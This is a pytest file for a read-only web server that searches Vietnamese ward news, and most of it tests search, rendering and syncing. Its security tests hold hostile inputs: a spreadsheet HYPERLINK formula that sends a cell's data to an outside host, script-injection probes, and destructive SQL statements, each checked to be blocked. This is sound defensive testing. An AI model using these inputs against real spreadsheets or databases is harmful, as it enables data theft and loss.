"""What `wardnews serve` shows: a copy that ends equal to the store, pages that are safe and found by any spelling."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import replace
from http.client import HTTPConnection
from multiprocessing import get_context
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit
from urllib.request import urlopen

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

import wardnews
from tests.helpers import datasette_imported  # noqa: F401 - before all else that imports it
from tests.serve.town import HOSTILE, NOBODY, PORTALS, built, made, town, write
from wardnews import serve
from wardnews.cli import app
from wardnews.errors import UsageError
from wardnews.items import GONE, Article
from wardnews.serve import copy
from wardnews.serve.copy import bring_up_to_date, copy_of
from wardnews.serve.drawing.views import views_chart
from wardnews.store.database import Store
from wardnews.store.frontier import Frontier
from wardnews.store.tables import articles, versions, views
from wardnews.store.versions import Versions

# Datasette leaves connections in memory open, and facets uncounted behind a facet that is none.
pytestmark = pytest.mark.filterwarnings("ignore:unclosed database in <sqlite3:ResourceWarning", "ignore:.*[Ff]acet")


def contents(file: Path) -> dict[str, list[Any]]:
    """Give all that a copy holds, the index word by word, without the numbers of its rows."""
    with closing(sqlite3.connect(file)) as opened:
        tables = {
            name: opened.execute(f"SELECT * FROM {name} ORDER BY 1, 2").fetchall()
            for name in ("portals", "articles", "versions", "views", "states")
        }
        opened.execute("CREATE VIRTUAL TABLE temp.words USING fts5vocab(main, articles_search, instance)")
        words = "SELECT id, term, col, offset FROM words JOIN articles ON articles.rowid = doc ORDER BY 1, 3, 4"
        number = opened.execute("SELECT count(*) FROM words").fetchone()
        assert opened.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        tables["index"] = [number, *opened.execute(words).fetchall()]
    return tables


# --- the copy ------------------------------------------------------------------------------------------------


@st.composite
def sightings(draw: st.DrawFn) -> list[Article]:
    """Draw sightings of two articles in any order of time: edits, repetitions, gone and back, other counts."""
    site = f"ngo{draw(st.integers(0, 10**9))}"
    found: list[Article] = []
    for number, day, content, count, gone in draw(
        st.lists(
            st.tuples(st.integers(1, 2), st.integers(1, 9), st.sampled_from("abc"), st.integers(0, 3), st.booleans()), max_size=6
        )
    ):  # fmt: skip
        one = made(f"{site}:{number}", "Hội chợ", f"Nội dung {content}.", seen=f"2022-01-0{day}T01:00:00Z", views=count)
        known = any(other.id == one.id for other in found)
        found.append(replace(one, change=GONE) if gone and known else one)
    return found


@pytest.fixture(scope="module")
def growing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, Path]]:
    folder = tmp_path_factory.mktemp("growing")
    store = Store.open(f"sqlite:///{folder}/wardnews.db")
    yield store, folder
    store.close()


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(found=sightings(), one_run=st.booleans(), look=st.integers(0, 5))
def test_a_copy_ends_equal_to_one_made_from_nothing(
    growing: tuple[Store, Path], found: list[Article], one_run: bool, look: int
) -> None:
    store, folder = growing
    for number, one in enumerate(found):
        write(store, one, run=f"{one.site}-{0 if one_run else number}")
        if number == look:
            built(store, folder / "kept.db")
    (folder / "new.db").unlink(missing_ok=True)
    assert contents(built(store, folder / "kept.db")) == contents(built(store, folder / "new.db"))


def test_only_what_changed_is_written_in_either_kind_of_store(store_url: str, tmp_path: Path) -> None:
    store = Store.open(store_url)
    write(store, *town(), made("Hoasua:1", "Chữ hoa trước"), made("hoasua:é", "Chữ lạ"))
    file = tmp_path / "kept.db"
    assert bring_up_to_date(store, file, PORTALS, NOBODY) == 26
    assert bring_up_to_date(store, file, PORTALS, NOBODY) == 0
    frontier = Frontier(store, "second")
    with frontier.connection.begin():
        commit = Versions(frontier.store, frontier.connection, frontier.run)
        commit.viewed({"hoasua:11": 7}, "2021-06-01T01:00:00Z")
        commit.reread(made("hoasua:12", "Đọc lại"))
    frontier.close()
    write(store, made("hoasua:13", "Sửa rồi", seen="2021-06-02T01:00:00Z"), made("hoasua:99", "Tin mới"), run="third")
    write(store, made("hoasua:14", "Trước đây", seen="2020-06-02T01:00:00Z"), run="backfill")
    with store.writing() as connection:
        for table, key in ((articles, articles.c.id), (versions, versions.c.article), (views, views.c.article)):
            connection.execute(table.delete().where(key == "hoasua:15"))
    assert bring_up_to_date(store, file, PORTALS, NOBODY) == 6
    assert contents(file) == contents(built(store, tmp_path / "new.db"))
    assert copy_of(store, tmp_path).parent == tmp_path
    store.close()


def test_a_crawl_goes_on_while_the_copy_is_made(
    store_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = Store.open(store_url)
    write(store, *town())
    monkeypatch.setattr(copy, "BATCH", 5)
    told = []

    def crawl(line: str) -> None:
        told.append(line)
        write(store, made("hoasua:12", "Sửa giữa chừng", seen="2021-06-02T01:00:00Z"), run="meanwhile")

    assert bring_up_to_date(store, tmp_path / "kept.db", PORTALS, crawl) == 24
    assert told == ["reading copy: 0 of 24 articles"]
    assert bring_up_to_date(store, tmp_path / "kept.db", PORTALS, NOBODY) == 1
    assert contents(tmp_path / "kept.db") == contents(built(store, tmp_path / "new.db"))
    store.close()


def kill_while_copying(url: str, file: Path) -> None:
    written = copy._write  # noqa: SLF001
    numbers = iter(range(10))

    def killed(*arguments: Any) -> None:
        if next(numbers) == 3:
            os.kill(os.getpid(), signal.SIGKILL)
        written(*arguments)

    copy.BATCH, copy._write = 5, killed  # type: ignore[assignment] # noqa: SLF001
    bring_up_to_date(Store.open(url), file, PORTALS, NOBODY)


def test_a_copy_that_was_killed_is_gone_on_with(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url, file = f"sqlite:///{tmp_path}/wardnews.db", tmp_path / "kept.db"
    store = Store.open(url)
    write(store, *town())
    process = get_context("forkserver").Process(target=kill_while_copying, args=(url, file))
    process.start()
    process.join()
    assert process.exitcode == -signal.SIGKILL
    assert bring_up_to_date(store, file, PORTALS, NOBODY) == 24 - 15
    assert contents(file) == contents(built(store, tmp_path / "new.db"))

    layout, later = f"user_version = {copy.LAYOUT}", f"user_version = {copy.LAYOUT + 1}"
    monkeypatch.setattr(copy, "LAYOUT", copy.LAYOUT + 1)
    monkeypatch.setattr(copy, "_TABLES", copy._TABLES.replace(layout, later))  # noqa: SLF001
    assert bring_up_to_date(store, file, PORTALS, NOBODY) == 24, "of another layout, so it is made anew"
    file.write_bytes(b"no database at all " * 100)
    assert bring_up_to_date(store, file, PORTALS, NOBODY) == 24
    store.close()


# --- the search ----------------------------------------------------------------------------------------------


def titles(page: str) -> list[str]:
    return [re.sub(r"<[^>]+>", "", one) for one in re.findall(r'<h3 lang="vi"><a[^>]*>(.*?)</a>', page)]


@pytest.mark.parametrize(
    "query", ["dang uy", "đảng uỷ", "Đảng ủy", "ĐẢNG ỦY", '"đảng ủy"', "dang uy!", "NEAR(dang uy)"[5:]]
)
def test_a_search_knows_no_tone_marks(get: Callable[..., Any], query: str) -> None:
    page = get(f"/?q={quote(query)}").text
    assert sorted(titles(page)) == sorted(
        ["Đảng ủy phường giao ban tháng 4", "Hội nghị về việc đảng ủy và dân", "Ngày hội ở phường bạn"]
    )
    assert titles(page)[-1] == "Ngày hội ở phường bạn", "it has the words in its text alone"
    assert "Cả buổi có <mark>Đảng uỷ</mark> phường" in page
    assert "<mark>Đảng ủy</mark> phường giao ban" in page
    by_table = get(f"/wardnews/articles.json?_shape=array&_search={quote(query)}").json()
    assert {one["id"] for one in by_table} == {"hoasua:1", "hoasua:2", "hoasua:3"}
    canned = get(f"/wardnews/search.json?_shape=array&q={quote(query)}").json()
    assert canned[-1]["found"] == "Cả buổi có Đảng uỷ phường, có bà con."


def test_phuc_loi_is_found_and_narrowed_down(get: Callable[..., Any]) -> None:
    page = get("/?q=phuc+loi").text
    found = titles(page)
    assert len(found) == 3
    assert found[0].endswith("Phúc Lợi&#34;"), "it has the words in its title"
    assert "Phường <mark>Phúc Lợi</mark> góp mười gian hàng." in page
    assert '<a href="/?q=phuc+loi&amp;site=bentrang">' in page
    assert len(titles(get("/?q=phuc+loi&site=bentrang").text)) == 2
    assert titles(get("/?q=phuc+loi&year=2022").text) == ["Hội nghị về việc đảng ủy và dân"]
    assert titles(get(f"/?section={quote('CÔNG TÁC ĐẢNG')}&ward={quote('Hoa Sữa')}").text) == [
        "Đảng ủy phường giao ban tháng 4"
    ]
    assert titles(get("/?q=phuong&sort=newest").text)[0] == "Ngày hội ở phường bạn"
    assert "Nothing was found" in get("/?q=phuc+loi&year=1999").text


def test_the_front_page_says_what_it_is(get: Callable[..., Any]) -> None:
    page = get("/").text
    assert "24 articles of 2 local government portals" in page
    assert titles(page)[0] == "Ngày hội ở phường bạn"
    assert 'placeholder="Search the articles' in page
    assert all(
        f"<h2>{name}</h2>" in page for name in ("Portal", "Section", "Ward or commune", "Year", "Newest articles")
    )
    further = re.search(r'<a href="([^"]+)" rel="next">', page)
    assert further
    assert len(titles(page)) + len(titles(get(further[1]).text)) == 24


ODD = [
    '"',
    "'",
    '"""',
    "*",
    "NEAR(",
    "a NEAR/2 b",
    "(",
    "-",
    "^a",
    "a:b",
    "title:x",
    "AND",
    "NOT",
    "\0",
    "%",
    "\\",
    "😀",
    "x" * 9000,
    "",
    " ",
]


@pytest.mark.parametrize(
    "path", ["/?q=", "/wardnews/articles?_search=", "/wardnews/articles.json?_search=", "/wardnews/search?q="]
)
def test_odd_words_are_no_error(get: Callable[..., Any], path: str) -> None:
    assert {get(path + quote(odd)).status_code for odd in ODD} == {200}


@pytest.mark.parametrize(
    "path",
    ["/?year=abc", "/?page=0", "/?page=51", "/?page=x", "/?sort=title", *(
        f"/wardnews/articles{path}"
        for path in (
            "?_sort=nope", "?_sort_desc=%22", "?_size=abc", "?_size=5000", "?_facet=nope", "?_facet={}", "?_facet_array=title",
            "?_through={}", "?_timelimit=x", ".json?_json_infinity=x", "?views__in=[", "?views__gt=99999999999999999999",
            "?_search=*&_searchmode=raw", ".json?_col=nope", ".json?_shape=x", ".csv?_stream=1",
        )
    )],
)  # fmt: skip
def test_what_cannot_be_asked_is_told(get: Callable[..., Any], path: str) -> None:
    answer = get(path)
    assert (answer.status_code, "Traceback" in answer.text) == (400, False)
    gc.collect()


# --- an article ----------------------------------------------------------------------------------------------


def test_an_article_reads_like_one(get: Callable[..., Any]) -> None:
    page = get("/article/hoasua:1").text
    text = page.partition("<article")[2].partition("</article>")[0]
    parts = [
        "Phường Hoa Sữa", "CÔNG TÁC ĐẢNG", "<h1>Đảng ủy phường giao ban tháng 4</h1>", "30/04/2021 17:15", ">Hoa Sữa</a>", "120 views",
        "Một buổi sáng bàn nhiều việc.", "Sáng 6/4, Đảng uỷ phường", "Thêm một đoạn.", "Lê Thị Mây",
    ]  # fmt: skip
    places = [text.find(part) for part in parts]
    assert places == sorted(places)
    assert -1 not in places
    assert 'href="http://hoasua.example/a.pdf"' in page
    assert 'href="http://hoasua.example/a.jpg"' in page
    assert "javascript:" not in page
    assert "data:text" not in page
    assert "Sáng <del>5/4,</del> <ins>6/4,</ins> Đảng uỷ" in page
    assert "<ins>Thêm một đoạn.</ins>" in page
    assert '<del lang="vi">TIN PHƯỜNG</del> <ins lang="vi">CÔNG TÁC ĐẢNG</ins>' in page
    assert 'aria-label="Views over time: 81 on 01/05/2021, 120 on 03/05/2021"' in page
    assert get("/wardnews/articles/hoasua~3A1.json?_shape=array").json()[0]["version"] == 2


def test_what_belongs_to_an_article_is_shown_with_it(get: Callable[..., Any]) -> None:
    assert "does not show this article any more" in get("/article/bentrang:3").text
    alike = get("/article/hoasua:2").text
    assert "Same story elsewhere" in alike
    assert '<a href="/article/bentrang:1" lang="vi">Khai mạc phiên chợ</a>' in alike
    alone = get("/article/bentrang:1").text
    assert alone.count("<circle") == 1
    assert "Same story elsewhere" not in get("/article/hoasua:3").text
    for unknown in ("nope", "hoasua:4", "%00", "a%2Fb", "%3Cscript%3E", "x" * 3000):
        answer = get(f"/article/{unknown}")
        assert (answer.status_code, "<script" in answer.text) == (404, False)


@pytest.mark.parametrize(
    "path", ["/", "/?q=phuc+loi", "/?q=script", "/article/bentrang:2", f"/?q={quote(HOSTILE)}", "/wardnews/newest", "/wardnews/articles", "/wardnews/versions", f"/nope{quote('<script>')}"]
)  # fmt: skip
def test_nothing_an_article_holds_becomes_part_of_a_page(get: Callable[..., Any], path: str) -> None:
    answer = get(path)
    if answer.status_code == 302:
        answer = get(answer.headers["location"])
    own = not path.startswith("/wardnews")
    text = re.sub(r'<script type="application/ld\+json">[^<]*</script>', "", answer.text)  # data, which no browser runs
    assert not re.search(r"<script>alert|<img|onerror=(?!alert\(1\)&gt;)", text)
    assert not (own and "<script" in text)
    addressed = text.replace('href="http://localhost/', 'href="/')
    assert not re.search(r"(?:src|<link[^>]*href)=\"?(?:https?:)?//", addressed), "requests go nowhere else"
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src" not in policy


def test_the_queries(get: Callable[..., Any]) -> None:
    def listed(name: str) -> list[str]:
        return [one["id"] for one in get(f"/wardnews/{name}.json?_shape=array").json()]

    assert listed("newest")[:2] == ["hoasua:3", "hoasua:2"]
    assert listed("most_read")[:2] == ["hoasua:2", "hoasua:1"]
    assert listed("edited") == ["hoasua:1"]
    assert listed("gone") == ["bentrang:3"]
    (edited,) = get("/wardnews/edited.json?_shape=array").json()
    assert edited["changed"] == "section, paragraphs"
    page = get("/wardnews/edited").text
    assert '<a href="/article/hoasua%3A1">Đảng ủy phường giao ban tháng 4</a>' in page
    assert "30/04/2021 17:15" in page
    assert get("/article/hoasua%3A1").status_code == 200
    page = get("/wardnews/articles").text
    assert all(f'data-column="{name}"' in page for name in ("site", "section", "ward", "year"))
    assert "belong to their portals" in page
    assert "Phường Bến Trăng" in page


def test_views_of_any_length_are_drawn() -> None:
    one = views_chart([("2021-05-01T01:00:00Z", 0)])
    assert one.count("<circle") == 1
    assert ">01/05/2021<" in one
    many = views_chart([(f"2021-05-01T01:{number // 60:02}:{number % 60:02}Z", number * 7) for number in range(3000)])
    assert many.count("<circle") <= 400
    assert ">20,993</text>" in many
    assert "NaN" not in one + many


# --- that it only reads --------------------------------------------------------------------------------------


def test_no_cell_of_a_table_is_a_formula(store: Store, tmp_path: Path) -> None:
    harm = '=HYPERLINK("http://a.vn/?"&A1)'
    write(
        store, made("hoasua:1", harm, harm, section="+84", published="2024-01-02"), made("hoasua:2", "- Tổ 1", "Tin.")
    )
    site = serve.application(built(store, tmp_path / "copy.db"))

    def get(path: str) -> Any:
        return asyncio.run(site.client.get(path))

    for path in ("/wardnews/articles.csv?_size=max", "/wardnews/newest.csv", "/wardnews/search.csv?q=hyperlink"):
        answer = get(path)
        assert answer.headers["content-type"].startswith("text/")
        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
        assert any(cell == f"'{harm}" for row in rows for cell in row)
    assert get("/wardnews/nowhere.csv").status_code == 404
    site.executor.shutdown()
    for database in site.databases.values():
        database.close()


def test_nothing_can_be_written_through_it(shown: Any, get: Callable[..., Any], tmp_path: Path) -> None:
    file = Path(shown.get_database("wardnews").path)
    before = file.read_bytes()
    for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS"):
        assert get("/wardnews/newest", method).status_code == 405
    for path in (
        "/wardnews?sql=select+1", "/wardnews.json?sql=select+1", "/wardnews/articles?_where=1=1", "/wardnews.db",
        "/wardnews/states", "/wardnews/articles_search", "/wardnews/articles_search_data.json",
    ):  # fmt: skip
        assert get(path).status_code == 403, path
    for path in ("/-/databases.json", "/-/metadata.json", "/-/auth-token", "/_internal", "/_memory", "/.json"):
        assert get(path).status_code == 404, path
    statements = (
        "DELETE FROM articles", "CREATE TABLE x (a)", "DROP TABLE views", f"ATTACH '{tmp_path}/x.db' AS x",
        f"VACUUM INTO '{tmp_path}/y.db'", "SELECT load_extension('x')", "UPDATE articles SET title = ''", "CREATE TEMP TABLE t (a)",
    )  # fmt: skip
    for statement in statements:
        with pytest.raises(sqlite3.Error):
            asyncio.run(shown.get_database("wardnews").execute(statement, log_sql_errors=False))
    with pytest.raises(PermissionError):
        shown.get_database("wardnews").connect(write=True)
    assert list(tmp_path.iterdir()) == []
    assert file.read_bytes() == before
    assert len(get("/wardnews/versions.json?_shape=array&_size=max").json()) <= 1000


# --- the command ---------------------------------------------------------------------------------------------


def refusal(*arguments: str) -> str:
    """Run the command in this process; give the error that it ends with."""
    result = CliRunner().invoke(app, ["serve", *arguments])
    assert isinstance(result.exception, UsageError), result.output
    return str(result.exception)


def test_what_keeps_it_from_serving_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"sqlite:///{tmp_path}/wardnews.db"
    assert "there is no store yet" in refusal("--store", url)
    Store.open(url).close()
    with socket.create_server(("127.0.0.1", 0)) as other:
        port = str(other.getsockname()[1])
        assert refusal("--store", url, "--port", port) == (
            f"127.0.0.1 port {port}: Address already in use; --host and --port name another"
        )
    (tmp_path / "wardnews.serve.db").mkdir()
    assert "wardnews.serve.db" in refusal("--store", url, "--port", "0")
    for name in [name for name in sys.modules if name.startswith("wardnews.serve")]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.delattr(wardnews, "serve", raising=False)
    monkeypatch.setitem(sys.modules, "datasette", None)
    monkeypatch.setitem(sys.modules, "datasette.app", None)
    assert "pip install 'wardnews[serve]'" in refusal("--store", url)


@contextmanager
def running(url: str, *how: str) -> Iterator[tuple[subprocess.Popen[str], str]]:
    """Serve a store in a process of its own, started as Python is told how; give it and its address."""
    start, options = how[:2] or ("-m", "wardnews"), how[2:]
    command = [sys.executable, *start, "serve", "--port", "0", "--store", url, *options]
    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True, encoding="utf-8") as process:
        assert process.stderr
        lines = []
        while line := process.stderr.readline():
            lines.append(line)
            if found := re.search(r"http://\S+/", line):
                break
        assert line, lines
        process.told = "".join(lines)  # type: ignore[attr-defined]
        try:
            yield process, found[0]  # type: ignore[index]
        finally:
            process.kill()


CHROMIUM = ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-sync",
    "--disable-extensions", "--disable-background-networking", "--disable-component-update",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1")  # fmt: skip


@contextmanager
def browser(folder: Path) -> Iterator[Any]:
    """Start a real browser that reaches nothing but this machine."""
    program, driver = shutil.which("chromium"), shutil.which("chromedriver")
    if not (program and driver):
        pytest.skip("needs chromium and chromedriver (Debian: chromium, chromium-driver)")
    webdriver = pytest.importorskip("selenium.webdriver")
    options = webdriver.ChromeOptions()
    options.binary_location = program
    for argument in (*CHROMIUM, f"--user-data-dir={folder}/profile"):
        options.add_argument(argument)
    opened = webdriver.Chrome(options=options, service=webdriver.ChromeService(driver))
    opened.implicitly_wait(30)
    opened.set_page_load_timeout(120)
    try:
        yield opened
    finally:
        opened.quit()


def test_in_a_browser(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/wardnews.db"
    store = Store.open(url)
    write(store, *town())
    store.close()
    with browser(tmp_path) as page, running(url) as (_process, address):
        page.get(address)
        assert page.find_element("tag name", "h1").text == "News of Vietnamese wards and communes"
        page.find_element("name", "q").send_keys("dang uy giao ban", "\ue007")  # Enter
        assert page.find_element("css selector", "h1.found").text == "1 article for dang uy giao ban"
        assert page.find_element("tag name", "mark").text == "Đảng"
        page.find_element("partial link text", "giao ban tháng 4").click()
        assert page.find_element("css selector", "article h1").text == "Đảng ủy phường giao ban tháng 4"
        assert page.current_url == f"{address}article/hoasua:1"
        assert page.find_element("css selector", ".diff ins").text == "6/4,"
        drawn = page.find_element("css selector", "svg.chart").rect
        assert drawn["width"] > 400
        assert drawn["height"] > 100
        for path in ("", "article/hoasua:1", "article/bentrang:2", "wardnews/newest"):
            page.set_window_size(390, 844)
            page.get(address + path)
            assert page.execute_script("return document.documentElement.scrollWidth <= innerWidth"), path
        assert page.get_log("browser") == [], "no script was tried, nothing was asked for elsewhere"


def test_it_ends_at_once_whatever_is_under_way(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/wardnews.db"
    Store.open(url).close()
    slow = "import asyncio, time; from wardnews.serve import server; from wardnews.cli import main\n"
    slow += "async def application(scope, receive, send): await asyncio.to_thread(time.sleep, 60)\n"
    slow += "server.gated = lambda *_: application\nmain()"
    with running(url, "-c", slow) as (process, address):
        with socket.create_connection(("127.0.0.1", urlsplit(address).port)) as visitor:
            visitor.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            visitor.settimeout(0.3)
            with pytest.raises(TimeoutError):
                visitor.recv(1)
            began = time.monotonic()
            process.send_signal(signal.SIGTERM)
            assert process.wait(30) == 0
        assert time.monotonic() - began < 5, "2 seconds where a core is free"


def test_it_is_read_by_its_own_names_alone(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/wardnews.db"
    Store.open(url).close()
    with running(url, "-m", "wardnews", "--name", "news.example.org") as (_process, address):
        for name, status in {"localhost": 200, "news.example.org": 200, "ke-xau.example": 421}.items():
            connection = HTTPConnection("127.0.0.1", urlsplit(address).port, timeout=60)
            connection.request("GET", "/", headers={"Host": name})
            assert connection.getresponse().status == status, name
            connection.close()


@pytest.mark.skipif(not shutil.which("nginx"), reason="needs nginx")
def test_the_web_server_of_the_docs_stands_before_it(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/wardnews.db"
    Store.open(url).close()
    example = Path("docs/examples/nginx.conf").read_text(encoding="utf-8")
    with running(url, "-m", "wardnews", "--name", "news.example.org") as (_process, address), socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
        free.close()
        server = example.replace("listen 80;", f"listen 127.0.0.1:{port};").replace("127.0.0.1:8001", address[7:-1])
        folders = ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
        temporary = "".join(f"{name}_temp_path {tmp_path}/{name};" for name in folders)
        conf = tmp_path / "nginx.conf"
        conf.write_text(
            f"pid {tmp_path}/pid; error_log stderr; daemon off; events {{}} http {{ access_log off; {temporary}\n{server} }}"
        )
        with subprocess.Popen(["nginx", "-p", str(tmp_path), "-c", str(conf)], stderr=subprocess.DEVNULL) as nginx:
            try:
                statuses = [asked_through(port) for _ in range(40)]
            finally:
                nginx.terminate()
    assert statuses[0] == 200
    assert set(statuses) == {200, 429}, "a visitor in a hurry is asked to wait"


def asked_through(port: int) -> int:
    """Ask for the front page by the public name as soon as the port is open; give the status."""
    for _ in range(1000):
        connection = HTTPConnection("127.0.0.1", port, timeout=60)
        with suppress(ConnectionRefusedError):
            connection.request("GET", "/-/static/app.css", headers={"Host": "news.example.org"})
            answer = connection.getresponse()
            connection.close()
            assert answer.status == 429 or answer.getheader("Content-Security-Policy")
            return answer.status
        time.sleep(0.01)
    raise AssertionError("nothing listens")


def test_it_ends_well_and_two_share_a_copy(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/wardnews.db"
    store = Store.open(url)
    write(store, *town())
    with running(url) as (first, address):
        write(store, made("hoasua:50", "Tin đến sau"), run="later")  # the store is free
        with running(url) as (second, other):
            assert "another `wardnews serve` has" in second.told  # type: ignore[attr-defined]
            for one in (address, other):
                with urlopen(one) as answer:
                    assert "24 articles of 2" in answer.read().decode()
            second.send_signal(signal.SIGTERM)
            assert second.wait(30) == 0
        first.send_signal(signal.SIGINT)
        assert first.wait(30) == 0
        assert first.stderr
        assert first.stderr.read() == ""
    assert bring_up_to_date(store, tmp_path / "wardnews.serve.db", PORTALS, NOBODY) == 1
    store.close()
